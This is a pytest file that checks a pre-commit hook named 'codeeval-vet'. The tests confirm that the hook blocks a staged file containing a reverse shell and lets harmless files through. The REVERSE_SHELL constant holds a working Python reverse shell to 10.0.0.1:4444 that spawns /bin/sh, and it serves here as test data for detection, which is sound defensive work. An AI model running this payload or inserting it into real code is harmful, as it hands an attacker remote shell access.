"""The pre-commit hook as a user gets it: `pre-commit try-repo` on this checkout installs the package
into its own environment (from the registry, as pre-commit does) and vets the staged files of a real
git repository; a reverse shell fails the commit, harmless files pass."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
pytestmark = pytest.mark.slow

REVERSE_SHELL = (
    "import os, socket, subprocess\n"
    "s = socket.socket()\n"
    "s.connect(('10.0.0.1', 4444))\n"
    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)\n"
    "subprocess.call(['/bin/sh', '-i'])\n"
)


def _pre_commit() -> str:
    exe = Path(sys.executable).parent / "pre-commit"
    assert exe.exists(), "pre-commit is a dev dependency: `make setup` installs it"
    return str(exe)


@pytest.fixture(scope="module")
def repo(tmp_path_factory):
    root = tmp_path_factory.mktemp("precommit")
    work = root / "repo"
    work.mkdir()
    (work / "bad.py").write_text(REVERSE_SHELL)
    (work / "ok.py").write_text("def add(a, b):\n    return a + b\n")
    (work / "tidy.sh").write_text("#!/bin/sh\nset -eu\nls -l \"$1\"\n")
    for args in (["init", "-q"], ["config", "user.email", "t@example.com"], ["config", "user.name", "t"], ["add", "."]):
        subprocess.run(["git", *args], cwd=work, check=True)
    env = {**os.environ, "PRE_COMMIT_HOME": str(root / "cache")}
    env.pop("PYTHONPATH", None)
    yield work, env
    shutil.rmtree(root / "cache", ignore_errors=True)


def _try(repo, *files):
    work, env = repo
    return subprocess.run([_pre_commit(), "try-repo", str(ROOT), "codeeval-vet", "--files", *files],
                          cwd=work, env=env, capture_output=True, text=True, timeout=1200, check=False)


def test_the_hook_blocks_a_reverse_shell_and_names_it(repo):
    out = _try(repo, "bad.py", "ok.py")
    assert out.returncode == 1, out.stdout[-3000:] + out.stderr[-2000:]
    assert "codeeval vet" in out.stdout and "Failed" in out.stdout
    assert "BLOCK  bad.py" in out.stdout and "python-reverse-shell" in out.stdout
    assert "ALLOW  ok.py" in out.stdout


def test_the_hook_passes_harmless_files(repo):
    out = _try(repo, "ok.py", "tidy.sh")
    assert out.returncode == 0, out.stdout[-3000:] + out.stderr[-2000:]
    assert "codeeval vet" in out.stdout and "Passed" in out.stdout
